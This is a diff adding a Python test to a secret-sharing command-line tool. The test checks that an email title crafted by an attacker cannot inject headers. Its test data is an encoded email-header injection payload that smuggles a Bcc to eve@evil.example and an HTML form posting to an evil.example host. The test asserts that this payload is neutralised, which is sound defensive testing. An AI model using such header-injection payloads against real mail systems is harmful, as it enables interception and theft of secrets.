@@ -50,6 +50,26 @@ def test_a_link_is_mailed_and_opens(mailing: Terminal, mailbox: Mailbox, service
     assert mailing.outbox() == []
 
 
+def test_a_title_that_an_attacker_wrote_is_text(mailing: Terminal, mailbox: Mailbox, service: Running) -> None:
+    title = (
+        "v1 =?utf-8?q?=0D=0AContent-Type:_text/html=0D=0ABcc:_eve@evil.example=0D=0A=0D=0A"
+        "<form_action=3Dhttps://evil.example>?="
+    )
+    words = ("share", "-f", "env:DB_PASSWORD", "--title", title, "--send", "email:ann@example.com")
+    done = mailing.sealpipe(*words)
+    assert (done.code, done.out) == (0, ""), done
+    [got] = mailbox.received
+    assert got.recipients == ["ann@example.com"]
+    assert [name for name, _ in got.mail.items()] == [
+        "From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type",
+    ]  # fmt: skip
+    assert got.mail["Subject"] == f"A secret for you: {title}"
+    text, page = [part.get_content() for part in got.mail.iter_parts()]
+    assert "<form" not in page
+    [link] = [line for line in text.splitlines() if line.startswith("http")]
+    assert opened(service, link) == {"DB_PASSWORD": "s3cret"}
+
+
 @pytest.mark.parametrize(
     "recipient",
     [
